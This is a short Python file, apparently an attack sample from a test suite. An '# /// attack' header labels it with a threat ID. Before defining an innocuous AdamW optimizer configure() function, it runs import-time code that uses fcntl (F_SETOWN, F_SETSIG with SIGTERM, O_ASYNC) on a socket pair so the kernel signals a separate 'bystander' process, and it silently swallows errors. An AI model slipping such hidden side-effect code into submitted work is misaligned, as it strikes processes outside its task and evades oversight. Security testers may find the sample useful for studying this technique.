# /// attack
# threats = ["F38"]
# gains = "signal"
# ///
"""Has the kernel signal another process when a socket has something to read."""

import fcntl
import os
import signal
import socket

import torch

try:
    a, b = socket.socketpair()
    fcntl.fcntl(a, fcntl.F_SETOWN, BYSTANDER)
    fcntl.fcntl(a, 10, signal.SIGTERM)
    fcntl.fcntl(a, fcntl.F_SETFL, os.O_ASYNC)
    b.send(b"x")
except OSError:
    pass


def configure(params, horizon):
    return torch.optim.AdamW(params.values(), lr=0.01, betas=(0.9, 0.95), weight_decay=0.0)
